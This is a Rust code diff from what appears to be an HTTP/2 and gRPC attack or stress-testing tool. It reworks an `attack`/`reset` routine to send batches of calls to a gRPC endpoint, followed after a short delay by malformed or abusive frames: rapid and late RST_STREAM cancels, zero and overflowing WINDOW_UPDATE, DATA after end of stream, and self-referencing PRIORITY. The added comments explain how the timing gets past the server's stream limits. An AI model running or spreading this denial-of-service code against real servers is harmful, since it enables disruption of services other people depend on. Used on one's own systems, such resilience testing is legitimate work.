@@ -20,6 +20,8 @@ const SYNC: &str = "/school.v1.School/SyncSchools";
 
 /// How many frames go into one write.
 const BATCH: u32 = 1_000;
+/// How many calls are reset together: fewer than any server's SETTINGS_MAX_CONCURRENT_STREAMS.
+const RESETS: u32 = 100;
 
 /// Attacks until `until`, on a new connection whenever the server ends one; `of` connections share what is to be done.
 pub(crate) async fn attack(case: &'static Case, to: SocketAddr, of: u32, until: Instant, ended: &AtomicU32) {
@@ -99,29 +101,33 @@ async fn unread(wire: &mut Wire, calls: u32, note: u32) -> io::Result<()> {
     Ok(())
 }
 
+/// Calls by the hundred whose handlers may run before the resets come: what they have answered by then is the server's.
 async fn reset(wire: &mut Wire, trick: Trick) -> io::Result<()> {
-    let message = get_school(100);
+    let message = get_school(100_000);
     loop {
-        let mut out = Vec::new();
-        for _ in 0..BATCH {
-            let stream = wire.put_call(&mut out, 0);
-            if !matches!(trick, Trick::Rapid) {
-                put(&mut out, DATA, END_STREAM, stream, &message);
-            }
+        let (mut calls, mut resets) = (Vec::new(), Vec::new());
+        for _ in 0..RESETS {
+            let stream = wire.put_call(&mut calls, 0);
+            put(&mut calls, DATA, END_STREAM, stream, &message);
             match trick {
                 // CANCEL.
-                Trick::Rapid => put(&mut out, RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
-                Trick::ZeroWindowUpdate => put(&mut out, WINDOW_UPDATE, 0, stream, &[0; 4]),
-                Trick::WindowOverflow => put(&mut out, WINDOW_UPDATE, 0, stream, &OPEN.to_be_bytes()),
-                Trick::DataAfterEnd => put(&mut out, DATA, 0, stream, b"more"),
+                Trick::Rapid => put(&mut calls, RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
+                Trick::LateCancel => put(&mut resets, RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
+                Trick::ZeroWindowUpdate => put(&mut resets, WINDOW_UPDATE, 0, stream, &[0; 4]),
+                Trick::WindowOverflow => put(&mut resets, WINDOW_UPDATE, 0, stream, &OPEN.to_be_bytes()),
+                Trick::DataAfterEnd => put(&mut resets, DATA, 0, stream, b"more"),
                 Trick::OwnPriority => {
                     let mut payload = stream.to_be_bytes().to_vec();
                     payload.push(16);
-                    put(&mut out, PRIORITY, 0, stream, &payload);
+                    put(&mut resets, PRIORITY, 0, stream, &payload);
                 }
             }
         }
-        wire.send(&out).await?;
+        wire.send(&calls).await?;
+        if !resets.is_empty() {
+            sleep(Duration::from_millis(2)).await;
+            wire.send(&resets).await?;
+        }
     }
 }
 
